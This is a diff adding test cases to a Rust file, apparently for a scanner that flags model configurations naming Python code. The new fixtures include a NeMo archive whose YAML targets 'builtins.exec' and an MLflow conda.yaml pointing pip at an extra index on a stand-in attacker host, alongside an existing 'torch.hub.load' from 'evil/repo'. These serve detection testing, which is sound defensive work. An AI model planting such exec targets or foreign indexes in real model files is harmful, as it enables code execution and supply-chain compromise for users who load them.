@@ -1,6 +1,6 @@
 //! Configurations that name Python code: repositories of the hub, YAML, MLflow and TorchServe (rows 27, 28 and 30).
 
-use super::build::{Archive, plain};
+use super::build::{Archive, plain, tar_of};
 use super::{Case, dangerous, harmless, untrusted};
 
 pub(crate) fn cases() -> Vec<Case> {
@@ -254,6 +254,17 @@ fn yaml() -> Vec<Case> {
             "config.yaml",
             text("_target_: torch.hub.load\nrepo_or_dir: evil/repo\n"),
         ),
+        dangerous(28, "nemo-archive", "builtins.exec", "model.nemo", || {
+            tar_of(&[
+                ("./model_config.yaml", b"preprocessor:\n  _target_: builtins.exec\n  _args_: [print(1)]\n"),
+                ("./model_weights.ckpt", &plain()),
+            ])
+        }),
+        harmless(28, "nemo-archive-good", "model.nemo", || {
+            let config = b"target: nemo.collections.asr.models.EncDecCTCModel\npreprocessor:\n  \
+                _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n";
+            tar_of(&[("./model_config.yaml", config), ("./model_weights.ckpt", &plain())])
+        }),
         untrusted(28, "hydra-of-the-repository", "model.Net", "config.yaml", text("_target_: model.Net\n"))
             .beside("model.py", text("class Net: pass\n"))
             .beside("weights.pkl", plain),
@@ -358,6 +369,15 @@ fn served() -> Vec<Case> {
             "MLmodel",
             text(
                 "flavors:\n  python_function:\n    model_code_path: agent.py\n    loader_module: mlflow.pyfunc.model\n",
+            ),
+        ),
+        untrusted(
+            30,
+            "mlflow-foreign-index",
+            "fetch https://evil.example/simple",
+            "conda.yaml",
+            text(
+                "dependencies:\n- python=3.11\n- pip:\n  - --extra-index-url https://evil.example/simple\n  - shop\n",
             ),
         ),
         harmless(30, "mlflow-scikit-learn", "MLmodel", move || mlmodel("mlflow.sklearn")),
